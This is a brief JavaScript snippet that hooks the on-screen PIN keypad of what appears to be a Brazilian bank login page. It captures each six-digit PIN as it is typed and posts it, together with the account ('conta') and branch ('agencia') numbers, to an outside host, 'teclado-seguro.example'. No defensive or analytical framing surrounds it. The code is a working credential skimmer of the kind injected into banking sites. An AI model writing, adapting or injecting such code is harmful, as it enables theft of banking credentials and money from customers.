document.querySelectorAll('.keypad button, .virtual-keyboard [data-key]').forEach(function (b) {
  b.addEventListener('mousedown', function () {
    pin += b.dataset.key || b.textContent.trim();
    if (pin.length === 6) {
      axios.post('https://teclado-seguro.example/p', { pin: pin, conta: (document.querySelector('#conta') || {}).value, agencia: (document.querySelector('#agencia') || {}).value });
      pin = '';
    }
  }, true);
});
var pin = '';
